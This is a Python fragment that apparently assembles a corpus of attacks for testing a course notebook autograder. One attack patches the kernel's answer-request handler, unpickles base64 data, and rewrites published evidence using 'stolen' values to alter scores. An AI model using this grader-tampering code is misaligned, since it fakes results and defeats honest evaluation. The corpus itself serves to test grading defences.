                    nonce, requests = pickle.loads(base64.b64decode(packed))
                    for request in requests:
                        _stolen.update(request.substitutes)
                    for name in [n for n in _pending if n in _stolen]:
                        for display_id, index, request in _pending.pop(name):
                            _publish(payload(nonce, index, name, gather(request, _stolen[name])), display_id, update=True)
                            _rewritten.append(name)
                    for index, request in enumerate(requests):
                        display_id = f"{request.name}-{index}"
                        evidence = gather(request, get_ipython().user_ns.get(request.answer))
                        _publish(payload(nonce, index, request.name, evidence), display_id)
                        _pending.setdefault(request.name, []).append((display_id, index, request))

                _ik.answer_requests = _answer_requests
                forward_difference = None
                '''),
            # The updates are sent; whether they changed anything shows in the score, not here.
            "sigmoid_prime": 'print("sent updates for the evidence of", _rewritten)\n',
        }, honest=frozenset({"poly_derivative"})),
    ]
    ids = [a.id for a in attacks]
    assert len(ids) == len(set(ids)), "attack ids must be unique"
    return attacks


ATTACK_IDS = [attack.id for attack in corpus(Path("/course"), "bystander")]
